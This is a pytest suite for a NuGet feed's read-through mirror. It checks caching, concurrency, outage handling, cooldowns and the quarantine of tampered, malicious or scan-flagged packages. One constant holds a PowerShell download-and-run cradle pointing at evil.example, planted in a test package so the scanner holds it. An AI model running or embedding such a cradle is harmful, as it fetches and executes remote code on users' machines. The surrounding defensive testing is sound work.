"""The read-through mirror end to end (issue 16, point 1): ``nuseal serve --upstream`` in front of a test upstream
that behaves as nuget.org does (a second ``nuseal serve`` holding the real nuget.org vectors byte for byte, with
nuget.org's repository certificates in its RepositorySignatures; tests/feed/upstream_support.py), behind a proxy
that counts requests and breaks connections.

Two kinds of mirror: a real ``nuseal serve --upstream`` process (the CLI path: byte-identical packages, NuGet.exe
installs, single flight, cut downloads, the upstream down), and the same composed feed under uvicorn in a thread of
this process when a test needs to move the feed's clock (cooldown) — a real server on loopback either way.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import re
import socket
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest
import uvicorn

from nuseal.feed.accounts.admins import set_admin
from nuseal.feed.accounts.keys import create_api_key, create_user
from nuseal.feed.compose import build_feed
from nuseal.feed.config import FeedConfig, IngestConfig, SigningConfig, UpstreamConfig
from support.clock import Clock

from .conftest import Feed, NuGetExe, make_package, run_admin
from .headers_support import check_headers
from .upstream_support import (
    CODESIGN_BUNDLE,
    TIMESTAMP_BUNDLE,
    NugetOrgUpstream,
    UpstreamProxy,
    nuget_org_proxy_fixture,  # noqa: F401 - the proxy fixture
    nupkg_path,
    start_mirror,
    tampered,
    upstream_fixture,  # noqa: F401 - the upstream fixture
    upstream_proxy,
    vector,
)

pytestmark = pytest.mark.slow  # real servers: the upstream (12 vectors pushed) and a mirror per test

#: A PowerShell download-and-run cradle in tools/init.ps1 (the scan's NS1110, an error: held).
CRADLE = b"iex (New-Object Net.WebClient).DownloadString('http://evil.example/stage2.ps1')\n"


@pytest.fixture
def mirror(proxy: UpstreamProxy, tmp_path: Path) -> Iterator[Feed]:
    """A ``nuseal serve`` mirror in front of ``proxy`` (:func:`start_mirror`), stopped after the test."""
    m = start_mirror(tmp_path / "mirror", proxy)
    yield m
    m.stop()


def nupkg_url(package_id: str, version: str) -> str:
    return nupkg_path(package_id, version)


# ------------------------------------------------------------------------------------------------ nuseal serve
def test_mirror_serves_upstream_packages_byte_identical_with_metadata_and_search(
    upstream: NugetOrgUpstream, proxy: UpstreamProxy, mirror: Feed
) -> None:
    ver, path = vector(upstream, "system.memory")
    with mirror.client() as c:
        assert c.get("/v3/flatcontainer/system.memory/index.json").json() == {"versions": [ver]}
        reg = c.get("/v3/registration-semver2/system.memory/index.json")
        assert reg.status_code == 200
        [item] = reg.json()["items"][0]["items"]
        assert item["packageContent"] == f"{mirror.base_url}{nupkg_url('system.memory', ver)}"
        assert item["catalogEntry"]["id"] == "System.Memory"
        assert [g["targetFramework"] for g in item["catalogEntry"]["dependencyGroups"]]  # the upstream's deps
        etag = reg.headers["ETag"]  # stable between requests: clients revalidate with 304
        assert c.get(reg.request.url, headers={"If-None-Match": etag}).status_code == 304
        leaf = c.get(f"/v3/registration/system.memory/{ver}.json")
        assert leaf.status_code == 200 and leaf.json()["packageContent"] == item["packageContent"]
        # not fetched before a client asks for the package
        assert proxy.count(r"\.nupkg$") == 0
        first = c.get(nupkg_url("System.Memory", ver))
        assert first.status_code == 200 and first.content == path.read_bytes()
        again = c.get(nupkg_url("System.Memory", ver))
        assert again.content == path.read_bytes()
        assert proxy.count(r"\.nupkg$") == 1  # fetched once, then served from storage
        nuspec = c.get(f"/v3/flatcontainer/system.memory/{ver}/system.memory.nuspec")
        assert nuspec.status_code == 200 and b"<id>System.Memory</id>" in nuspec.content
        # search: upstream hits for ids not held here, pointing at this feed
        hits = {h["id"]: h for h in c.get("/v3/search", params={"q": "system.buffers"}).json()["data"]}
        assert hits["System.Buffers"]["registration"].startswith(mirror.base_url)
        assert hits["System.Buffers"]["versions"][-1]["@id"].startswith(mirror.base_url)
        page = c.get("/packages/System.Memory")
        assert page.status_code == 200 and "upstream" in page.text.lower()
        assert "signatures" in page.text.lower()
        # an id the upstream does not know is a plain 404
        assert c.get("/v3/flatcontainer/no.such.package/index.json").status_code == 404
        assert c.get(nupkg_url("No.Such.Package", "1.0.0")).status_code == 404
        # what the mirror answers itself carries the headers of its class (the upstream's bytes stay inert)
        for response, user_file in (
            (c.get("/v3/flatcontainer/system.memory/index.json"), False),
            (reg, False),
            (leaf, False),
            (first, True),
            (nuspec, True),
            (c.get("/v3/flatcontainer/no.such.package/index.json"), False),
        ):
            check_headers(response, user_file=user_file)


def test_local_ids_win_over_the_upstream(upstream: NugetOrgUpstream, proxy: UpstreamProxy, mirror: Feed) -> None:
    ver, _ = vector(upstream, "system.buffers")
    local = make_package("System.Buffers", "99.0.0")
    assert mirror.push(local).status_code == 201
    before = proxy.count(r"system\.buffers")
    with mirror.client() as c:
        assert c.get("/v3/flatcontainer/system.buffers/index.json").json() == {"versions": ["99.0.0"]}
        assert c.get(nupkg_url("System.Buffers", ver)).status_code == 404
        reg = c.get("/v3/registration/system.buffers/index.json").json()
        assert [i["catalogEntry"]["version"] for p in reg["items"] for i in p["items"]] == ["99.0.0"]
    assert proxy.count(r"system\.buffers") == before == 0  # the upstream was never asked about it


def test_fifty_concurrent_first_requests_one_upstream_download(
    upstream: NugetOrgUpstream, proxy: UpstreamProxy, mirror: Feed
) -> None:
    ver, path = vector(upstream, "microsoft.data.sqlite")
    url = nupkg_url("microsoft.data.sqlite", ver)
    proxy.hold = True  # every request is in flight before the upstream answers

    async def fetch_all() -> list[httpx.Response]:
        async with httpx.AsyncClient(base_url=mirror.base_url, timeout=60) as c:
            tasks = [asyncio.ensure_future(c.get(url)) for _ in range(50)]
            deadline = time.monotonic() + 20
            while proxy.count(r"\.nupkg$") == 0 and time.monotonic() < deadline:
                await asyncio.sleep(0.05)
            await asyncio.sleep(0.5)
            proxy.release.set()
            return await asyncio.gather(*tasks)

    answers = asyncio.run(fetch_all())
    assert [r.status_code for r in answers] == [200] * 50
    assert {r.content for r in answers} == {path.read_bytes()}
    assert proxy.count(r"\.nupkg$") == 1


def test_upstream_cut_mid_download_stores_nothing_and_the_next_request_succeeds(
    upstream: NugetOrgUpstream, proxy: UpstreamProxy, mirror: Feed
) -> None:
    ver, path = vector(upstream, "restsharp")
    url = nupkg_url("RestSharp", ver)
    proxy.cut_after = 1000
    with mirror.client() as c:
        cut = c.get(url)
        assert cut.status_code == 502 and "'test'" in cut.text
        assert not [p for p in (mirror.data_dir / "storage").rglob("restsharp*") if p.is_file()]
        assert not list((mirror.data_dir / "mirror" / "test").iterdir())  # no part file left
        assert run_admin(mirror.data_dir, None, "quarantine", "list", "--all") == "nothing in quarantine"
        proxy.cut_after = None
        whole = c.get(url)
        assert whole.status_code == 200 and whole.content == path.read_bytes()
    assert proxy.count(r"\.nupkg$") == 2


def test_upstream_down_cached_ids_keep_working_others_get_502_naming_it(
    upstream: NugetOrgUpstream, proxy: UpstreamProxy, tmp_path: Path
) -> None:
    mirror = start_mirror(tmp_path / "mirror", proxy)
    try:
        ver, path = vector(upstream, "dockpanelsuite")
        with mirror.client() as c:
            assert c.get(nupkg_url("DockPanelSuite", ver)).content == path.read_bytes()
        mirror.stop()  # a restart forgets the in-memory metadata: only what is stored is left
        proxy.down = True
        (mirror.data_dir / "server.log").rename(mirror.data_dir / "server.first.log")
        mirror = start_mirror(mirror.data_dir, proxy, users=())  # the users exist; no keys are needed again
        with mirror.client() as c:
            assert c.get("/v3/flatcontainer/dockpanelsuite/index.json").json() == {"versions": [ver]}
            assert c.get(nupkg_url("DockPanelSuite", ver)).content == path.read_bytes()
            reg = c.get("/v3/registration/dockpanelsuite/index.json")
            assert reg.status_code == 200
            other_ver, _ = vector(upstream, "system.memory")
            for url in ("/v3/flatcontainer/system.memory/index.json", nupkg_url("System.Memory", other_ver)):
                r = c.get(url)
                assert r.status_code == 502, url
                assert "upstream 'test'" in r.text and proxy.source in r.text
                assert "upstream 'test'" in r.headers["X-NuGet-Warning"]
                assert "upstream 'test'" in r.reason_phrase  # what NuGet prints
                check_headers(r, user_file=False)
            # search keeps the local hits
            assert c.get("/v3/search", params={"q": "dockpanel"}).status_code == 200
    finally:
        mirror.stop()


# ------------------------------------------------------------------------------------------------ in a thread
@dataclass
class ThreadMirror:
    """A composed mirror served by uvicorn in a thread of this process (its clock is the test's)."""

    base_url: str
    data_dir: Path
    clock: Clock
    keys: dict[str, str]
    server: uvicorn.Server
    thread: threading.Thread

    def client(self) -> httpx.Client:
        return httpx.Client(base_url=self.base_url, timeout=60)

    def admin(self, *args: str) -> str:
        return run_admin(self.data_dir, None, *args)

    def stop(self) -> None:
        self.server.should_exit = True
        self.thread.join(20)


ThreadMirrorFactory = Callable[..., "ThreadMirror"]


@pytest.fixture
def thread_mirror(upstream: NugetOrgUpstream, proxy: UpstreamProxy, tmp_path: Path) -> Iterator[ThreadMirrorFactory]:
    started: list[ThreadMirror] = []

    def make(*more: UpstreamConfig, **ingest: object) -> ThreadMirror:
        m = start_thread_mirror(tmp_path / f"mirror{len(started)}", proxy, upstream.now(), *more, **ingest)
        started.append(m)
        return m

    yield make
    for m in started:
        m.stop()


def start_thread_mirror(
    data_dir: Path, proxy: UpstreamProxy, now: datetime, *more: UpstreamConfig, **ingest: object
) -> ThreadMirror:
    """The mirror, its clock at ``now`` (the test moves it)."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    base_url = f"http://127.0.0.1:{sock.getsockname()[1]}"
    clock = Clock(now)
    config = FeedConfig(
        data_dir=data_dir,
        base_url=base_url,
        # the vectors trust roots; signing stays off
        signing=SigningConfig(trust_bundle=CODESIGN_BUNDLE, timestamp_trust_bundle=TIMESTAMP_BUNDLE),
        ingest=IngestConfig(revocation_mode="offline", release_check_seconds=0, **ingest),  # type: ignore[arg-type]
        upstreams=(UpstreamConfig("test", proxy.source, ("*",), allow_insecure_connections=True), *more),
    )
    composed = build_feed(config, clock=clock)
    composed.service.setup()
    keys = {}
    with composed.service.db.write() as session:
        for name in ("alice", "root"):
            create_user(session, name, now=clock())
            keys[name] = create_api_key(session, name, now=clock()).key
        set_admin(session, "root", admin=True, actor="test", now=clock())
    server = uvicorn.Server(uvicorn.Config(composed.app(), lifespan="on", log_level="warning"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.02)
    assert server.started
    return ThreadMirror(base_url, data_dir, clock, keys, server, thread)


def test_cooldown_hides_young_upstream_versions_until_their_age_passes(
    upstream: NugetOrgUpstream, proxy: UpstreamProxy, thread_mirror: ThreadMirrorFactory
) -> None:
    package_id = "System.Runtime.WindowsRuntime"
    ver, path = vector(upstream, package_id)
    # a newer version on the upstream (the upstream published every version minutes ago, when the test pushed it)
    assert upstream.feed.push(make_package(package_id, "4.6.1-preview")).status_code == 201
    mirror = thread_mirror(min_release_age_seconds=3 * 86400)
    index = "/v3/flatcontainer/system.runtime.windowsruntime/index.json"
    with mirror.client() as c:
        assert c.get(index).json() == {"versions": []}
        reg = c.get("/v3/registration/system.runtime.windowsruntime/index.json").json()
        assert reg["items"] == []
        hits = c.get("/v3/search", params={"q": package_id}).json()["data"]
        assert [h["id"] for h in hits] == []
        # an administrator lets one version skip the cooldown: listed and served, the other still hidden
        mirror.admin("quarantine", "override-cooldown", package_id, ver, "--as", "root")
        assert c.get(index).json() == {"versions": [ver]}
        assert c.get(nupkg_url(package_id, ver)).content == path.read_bytes()
        # the page says when the young version will appear
        page = c.get(f"/packages/{package_id}").text
        assert 'id="upstream-only"' in page
        [row] = re.findall(r'<tr class="cooldown" data-version="4.6.1-preview"><td>[^<]*</td><td>([^<]*)</td>', page)
        appears = datetime.strptime(row, "%Y-%m-%d %H:%M UTC").replace(tzinfo=UTC)
        assert timedelta(days=2, hours=23) < appears - mirror.clock.now <= timedelta(days=3)
        # the clock moves: still hidden a minute before, listed once the age has passed
        mirror.clock.now = appears - timedelta(minutes=1)
        assert c.get(index).json() == {"versions": [ver]}
        mirror.clock.now = appears + timedelta(minutes=1)
        assert c.get(index).json() == {"versions": [ver, "4.6.1-preview"]}
        assert 'class="cooldown"' not in c.get(f"/packages/{package_id}").text


# ------------------------------------------------------------------------------------------------ refusals
def test_refusals_and_holds_through_the_mirror_with_evidence(
    upstream: NugetOrgUpstream, proxy: UpstreamProxy, thread_mirror: ThreadMirrorFactory, tmp_path: Path
) -> None:
    with contextlib.ExitStack() as stack:
        refusals_and_holds(upstream, proxy, thread_mirror, tmp_path, stack)


def refusals_and_holds(
    upstream: NugetOrgUpstream,
    proxy: UpstreamProxy,
    thread_mirror: ThreadMirrorFactory,
    tmp_path: Path,
    stack: contextlib.ExitStack,
) -> None:
    osv = tmp_path / "osv"
    osv.mkdir()
    (osv / "MAL-2026-0002.json").write_text(
        json.dumps(
            {
                "id": "MAL-2026-0002",
                "modified": "2026-11-01T00:00:00Z",
                "summary": "Malicious code in System.Buffers",
                "affected": [{"package": {"ecosystem": "NuGet", "name": "System.Buffers"}, "versions": ["4.4.0"]}],
            }
        )
    )
    # a second upstream (an internal feed that does not repository-sign) serves Mirror.* (the most specific
    # pattern wins): a clean package whose bytes its proxy replaces by a download-and-run init.ps1 (held)
    assert upstream.feed.push(make_package("Mirror.Tools", "1.0.0")).status_code == 201
    held_bytes = make_package("Mirror.Tools", "1.0.0", files={"tools/init.ps1": CRADLE})
    internal = stack.enter_context(upstream_proxy(upstream.feed.base_url))
    internal.replace[nupkg_path("Mirror.Tools", "1.0.0")] = held_bytes
    # a tampered package on the upstream (NU3008)
    tampered_ver, tampered_vector = vector(upstream, "inthehand.bluetoothle")
    proxy.replace[nupkg_path("inthehand.bluetoothle", tampered_ver)] = tampered(tampered_vector)
    mirror = thread_mirror(UpstreamConfig("internal", internal.source, ("Mirror.*",), True), osv_path=str(osv))
    newtonsoft_ver, _ = vector(upstream, "newtonsoft.json")
    buffers_ver, _ = vector(upstream, "system.buffers")
    root = {"X-NuGet-ApiKey": mirror.keys["root"]}
    alice = {"X-NuGet-ApiKey": mirror.keys["alice"]}
    with mirror.client() as c:
        # tampered: refused, never served
        r = c.get(nupkg_url("InTheHand.BluetoothLE", tampered_ver))
        assert r.status_code == 404
        assert "NU3008" in c.get(nupkg_url("InTheHand.BluetoothLE", tampered_ver), headers=root).headers.get(
            "X-NuSeal-Quarantine", ""
        )
        # the repository countersignature is UiPath's, not a certificate the upstream lists: refused
        assert c.get(nupkg_url("Newtonsoft.Json", newtonsoft_ver)).status_code == 404
        # OSV malicious: refused for good, and gone from the version list
        assert c.get(nupkg_url("System.Buffers", buffers_ver)).status_code == 404
        assert c.get("/v3/flatcontainer/system.buffers/index.json").json() == {"versions": []}
        # scan hold: 404, the reason only for an administrator's key, absent from the lists
        held = c.get(nupkg_url("Mirror.Tools", "1.0.0"), headers=alice)
        assert held.status_code == 404 and "X-NuSeal-Quarantine" not in held.headers
        reason = c.get(nupkg_url("Mirror.Tools", "1.0.0"), headers=root).headers["X-NuSeal-Quarantine"]
        assert reason.startswith("held: scan: NS1110")
        assert c.get("/v3/flatcontainer/mirror.tools/index.json").json() == {"versions": []}
        assert "Mirror.Tools" not in [h["id"] for h in c.get("/v3/search", params={"q": "mirror"}).json()["data"]]

    listed = json.loads(mirror.admin("quarantine", "list", "--all", "--json"))
    states = {(h["id"].lower(), h["state"]) for h in listed}
    assert ("mirror.tools", "held") in states
    assert {
        ("inthehand.bluetoothle", "refused"),
        ("newtonsoft.json", "refused"),
        ("system.buffers", "refused"),
    } <= states
    shown = mirror.admin("quarantine", "show", "InTheHand.BluetoothLE", tampered_ver)
    assert "NU3008" in shown and "signatures" in shown
    assert "repository" in mirror.admin("quarantine", "show", "Newtonsoft.Json", newtonsoft_ver).lower()
    assert "MAL-2026-0002" in mirror.admin("quarantine", "show", "System.Buffers", buffers_ver)
    assert "NS1110" in mirror.admin("quarantine", "show", "Mirror.Tools", "1.0.0")

    out = mirror.admin("quarantine", "release", "Mirror.Tools", "1.0.0", "--as", "root", "--note", "reviewed")
    assert "Mirror.Tools" in out
    assert internal.count(r"\.nupkg$") == 1 and proxy.count(r"mirror\.tools") == 0
    with mirror.client() as c:
        assert c.get("/v3/flatcontainer/mirror.tools/index.json").json() == {"versions": ["1.0.0"]}
        assert c.get(nupkg_url("Mirror.Tools", "1.0.0")).content == held_bytes
        page = c.get("/packages/Mirror.Tools/1.0.0").text
        assert "NS1110" in page and "upstream" in page.lower()
        # the tampered version stays refused, nothing of it stored
        assert c.get(nupkg_url("InTheHand.BluetoothLE", tampered_ver)).status_code == 404
    assert not list((mirror.data_dir / "storage").rglob("inthehand.bluetoothle*.nupkg"))


# ------------------------------------------------------------------------------------------------ NuGet.exe
@pytest.mark.nugetexe
def test_nuget_exe_installs_real_packages_through_the_mirror(
    upstream: NugetOrgUpstream, proxy: UpstreamProxy, mirror: Feed, nuget: NuGetExe, tmp_path: Path
) -> None:
    found = nuget.run("search", "RestSharp", "-Source", mirror.source).stdout
    assert "RestSharp |" in found  # an upstream hit, through the mirror's search
    out_dir = tmp_path / "installed"
    for package_id in ("System.Memory", "Microsoft.Data.Sqlite", "RestSharp", "ILMerge"):
        ver, path = vector(upstream, package_id)
        nuget.run(
            "install",
            package_id,
            "-Version",
            ver,
            "-OutputDirectory",
            str(out_dir),
            "-Source",
            mirror.source,
            "-DependencyVersion",
            "Ignore",
            "-DirectDownload",
        )
        [folder] = [p for p in out_dir.iterdir() if p.name.lower() == f"{package_id}.{ver}".lower()]
        [nupkg] = list(folder.glob("*.nupkg"))
        assert nupkg.read_bytes() == path.read_bytes(), package_id  # byte-identical to the upstream's
        assert proxy.count(nupkg_path(package_id, ver).replace(".", r"\.") + "$") == 1
    # a refused package does not install: Newtonsoft.Json's repository countersignature is not nuget.org's
    newtonsoft_ver, _ = vector(upstream, "newtonsoft.json")
    refused = nuget.run(
        "install",
        "Newtonsoft.Json",
        "-Version",
        newtonsoft_ver,
        "-OutputDirectory",
        str(out_dir),
        "-Source",
        mirror.source,
        "-DirectDownload",
        check=False,
    )
    assert refused.returncode != 0
    assert not [p for p in out_dir.iterdir() if p.name.lower().startswith("newtonsoft.json")]


def test_dotnet_restore_through_the_mirror(
    upstream: NugetOrgUpstream, proxy: UpstreamProxy, mirror: Feed, tmp_path: Path
) -> None:
    from .dotnet_support import dotnet_cli, write_project  # noqa: PLC0415 - skips without the SDK

    dotnet = dotnet_cli(tmp_path / "dotnet")
    wanted = {package_id: vector(upstream, package_id) for package_id in ("System.Buffers", "ILMerge")}
    project = write_project(
        dotnet.root / "app",
        {package_id: f"[{ver}]" for package_id, (ver, _) in wanted.items()},
        sources=[mirror.source],
    )
    dotnet.run("restore", str(project))
    for package_id, (ver, path) in wanted.items():
        assert dotnet.installed_package(package_id, ver).read_bytes() == path.read_bytes(), package_id
